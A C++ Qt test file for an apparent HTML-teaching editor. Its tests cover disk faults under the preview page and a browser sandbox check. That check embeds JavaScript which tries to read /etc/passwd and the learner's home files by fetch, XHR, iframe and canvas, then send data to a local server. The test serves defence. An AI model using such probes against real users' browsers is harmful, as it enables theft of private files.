// SPDX-License-Identifier: GPL-3.0-or-later
// The disk failing under the scratch page in the middle of a session: the
// page made read-only, replaced by a folder or by a link to a file elsewhere
// (a full disk is the page writer's test and tests/e2e/pane.sh's). The editor
// keeps every keystroke, the pane says what is
// wrong, the page is never cut short or written through a link, and the next
// change after the fault goes writes again. A later screen that cannot make
// the page goes on. (A writer killed mid-write is tst_scratchpage's.) And the
// learner's page, the learner's own script in a real browser, reads no other
// local file (the system's, or the learner's beside the page) in any of the
// ways a page can try, and sends nothing out.
#include "testmain.h"
#include "testutil.h"
#include "workspace/editortext.h"

#include <QDir>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTcpServer>

using namespace quorvel;
using namespace quorvel::testing;

namespace {

enum class Fault { ReadOnly, Folder, Link };
} // namespace

class TestRobustDisk final : public QObject {
    Q_OBJECT

private slots:
    void faultMidSession_data()
    {
        QTest::addColumn<Fault>("fault");
        QTest::newRow("page made read-only: left alone") << Fault::ReadOnly;
        QTest::newRow("a folder in the page's place: left as it was") << Fault::Folder;
        QTest::newRow("a link to the learner's file: never written through") << Fault::Link;
    }
    void faultMidSession()
    {
        QFETCH(Fault, fault);
        QTemporaryDir dir;
        const QString notes = dir.filePath(QStringLiteral("notes.txt"));
        CourseRun run;
        WorkspaceScreen *s = run.show(ScreenId::Form1Test);
        const QString path = s->pagePath();
        QTest::keyClicks(s->editor(), QStringLiteral("<p>good</p>"));
        QTRY_COMPARE(shownText(s->pane()), QStringLiteral("good"));

        QFile f(notes);
        switch (fault) {
        case Fault::ReadOnly:
            QVERIFY(QFile(path).setPermissions(QFile::ReadOwner | QFile::ReadGroup));
            break;
        case Fault::Folder:
            QVERIFY(QFile::remove(path) && QDir().mkdir(path));
            QVERIFY(QFile::copy(QStringLiteral(":/icons/lesson1-16.png"),
                                path + QStringLiteral("/inside.png")));
            break;
        case Fault::Link:
            QVERIFY(f.open(QIODevice::WriteOnly) && f.write("the learner's own notes") > 0);
            f.close();
            QVERIFY(QFile::remove(path) && QFile::link(notes, path));
            break;
        }
        QSignalSpy refreshes(s, &WorkspaceScreen::refreshed);
        QTest::keyClicks(s->editor(), QStringLiteral("<p>kept</p>"));
        QCOMPARE(refreshes.size(), 11); // one per key, none of them written
        for (const QList<QVariant> &r : refreshes)
            QCOMPARE(r.at(0).toBool(), false);
        QVERIFY(s->pageWriteFailed());
        QCOMPARE(s->text(), QStringLiteral("<p>good</p><p>kept</p>"));
        QTRY_VERIFY(
            shownText(s->pane()).contains(QStringLiteral("The preview could not be saved.")));
        QVERIFY(shownText(s->pane()).contains(QStringLiteral("Your text is safe in the editor")));

        switch (fault) {
        case Fault::ReadOnly:
            QCOMPARE(readFile(path), QByteArray("<p>good</p>"));
            QVERIFY(shownText(s->pane()).contains(QStringLiteral("read-only")));
            QVERIFY(QFile(path).setPermissions(QFile::ReadOwner | QFile::WriteOwner));
            break;
        case Fault::Folder:
            QCOMPARE(QDir(path).entryList(QDir::Files), QStringList{QStringLiteral("inside.png")});
            QVERIFY(QDir(path).removeRecursively());
            break;
        case Fault::Link:
            QVERIFY(QFileInfo(path).isSymLink());
            QCOMPARE(readFile(notes), QByteArray("the learner's own notes"));
            QVERIFY(QFile::remove(path));
            break;
        }
        QTest::keyClicks(s->editor(), QStringLiteral("!"));
        QCOMPARE(refreshes.last().at(0).toBool(), true);
        QVERIFY(!s->pageWriteFailed());
        QCOMPARE(readFile(path), QByteArray("<p>good</p><p>kept</p>!"));
        QVERIFY(!QFileInfo(path).isSymLink());
        QTRY_COMPARE(shownText(s->pane()), QStringLiteral("good\n\nkept\n\n!"));
    }

    // Only the first workspace load of a run may end the program over the page.
    void laterScreenCannotCreateThePage_goesOn()
    {
        CourseRun run;
        run.show(ScreenId::Form1);
        const QString page = scratch::defaultPath();
        QVERIFY(QFile::remove(page) && QDir().mkpath(page));
        run.registry.screen(ScreenId::Form1)
            ->findChild<QPushButton *>(QStringLiteral("cmdContinue"))
            ->click();
        auto *form2 = run.registry.screenAs<WorkspaceScreen>(ScreenId::Form2);
        QVERIFY(form2->isVisible() && !run.endedWith && run.fatalMessages.isEmpty());
        QVERIFY(form2->pageWriteFailed());
        QTRY_VERIFY(shownText(form2->pane()).contains(QStringLiteral("could not be saved")));
        QVERIFY(QDir(page).removeRecursively());
        QTest::keyClicks(form2->editor(), QStringLiteral("back"));
        QVERIFY(!form2->pageWriteFailed());
        QCOMPARE(readFile(page), QByteArray("back"));
    }

    void pageScriptsCannotReadLocalFilesNorSendThem()
    {
        const QString secret = QDir::home().filePath(QStringLiteral("diary.txt"));
        QFile f(secret);
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write("TOPSECRET diary"));
        f.close();
        const QString picture = QDir::home().filePath(QStringLiteral("photo.png"));
        QVERIFY(QFile::copy(QStringLiteral(":/icons/lesson1-32.png"), picture));
        // Anything that reaches this server has left the page.
        QTcpServer sink;
        QVERIFY(sink.listen(QHostAddress::LocalHost));
        const QString page =
            QStringLiteral(R"(<p>probing</p><script>
var r = {}; var done = function(k, v) { r[k] = String(v).slice(0, 200); };
var targets = {passwd: 'file:///etc/passwd', diary: '%1', sibling: 'diary.txt'};
Object.keys(targets).forEach(function(k) {
  fetch(targets[k]).then(function(x) { return x.text(); })
    .then(function(t) { done('fetch ' + k, 'READ ' + t); }, function(e) { done('fetch ' + k, 'blocked ' + e); });
  try {
    var x = new XMLHttpRequest(); x.open('GET', targets[k], false); x.send();
    done('xhr ' + k, 'READ ' + x.responseText);
  } catch (e) { done('xhr ' + k, 'blocked ' + e); }
  var f = document.createElement('iframe'); f.src = targets[k];
  f.onload = function() {
    try { done('iframe ' + k, 'READ ' + f.contentDocument.body.innerText); }
    catch (e) { done('iframe ' + k, 'blocked ' + e); } };
  document.body.appendChild(f);
});
var i = new Image();
i.onload = function() {
  var c = document.createElement('canvas'); c.width = i.width; c.height = i.height;
  c.getContext('2d').drawImage(i, 0, 0);
  try { done('img', 'READ ' + c.toDataURL()); } catch (e) { done('img', 'blocked ' + e); } };
i.onerror = function() { done('img', 'blocked: not loaded'); };
i.src = '%2';
fetch('%3fetch', {method: 'POST', body: 'x', mode: 'no-cors'})
  .then(function() { done('send fetch', 'SENT'); }, function(e) { done('send fetch', 'blocked ' + e); });
try { done('send beacon', navigator.sendBeacon('%3beacon', 'x') ? 'queued' : 'refused'); }
catch (e) { done('send beacon', 'blocked ' + e); }
var o = new Image(); o.onload = o.onerror = function() { done('send image', 'tried'); }; o.src = '%3image';
</script>)")
                .arg(QUrl::fromLocalFile(secret).toString(),
                     QUrl::fromLocalFile(picture).toString(),
                     QStringLiteral("http://127.0.0.1:%1/").arg(sink.serverPort()));

        CourseRun run;
        WorkspaceScreen *s = run.show(ScreenId::Form3);
        editor::setText(s->editor(), page);
        QJsonObject results;
        const auto collect = [&] {
            const auto v = evaluate(s->pane(), QStringLiteral("JSON.stringify(window.r || {})"));
            results = v ? QJsonDocument::fromJson(v->toString().toUtf8()).object() : QJsonObject();
            return results.size();
        };
        // three reads of three files, the picture, and three ways out
        QTRY_COMPARE_WITH_TIMEOUT(collect(), 3 * 3 + 1 + 3, 30000);
        qInfo("%s", QJsonDocument(results).toJson(QJsonDocument::Compact).constData());
        for (auto it = results.begin(); it != results.end(); ++it) {
            const QString v = it.value().toString();
            QVERIFY2(!v.contains(QStringLiteral("root:")) &&
                         !v.contains(QStringLiteral("TOPSECRET")) &&
                         !v.startsWith(QStringLiteral("READ")) && v != QStringLiteral("SENT"),
                     qPrintable(it.key() + QStringLiteral(": ") + v));
        }
        // Whatever the page tried to send (a beacon is queued, then dropped)
        // went nowhere.
        QVERIFY(!sink.hasPendingConnections() && !sink.waitForNewConnection(2000));
        QCOMPARE(QFile(secret).size(), 15);
    }
};

QUORVEL_TEST_MAIN(TestRobustDisk)
#include "tst_robust_disk.moc"
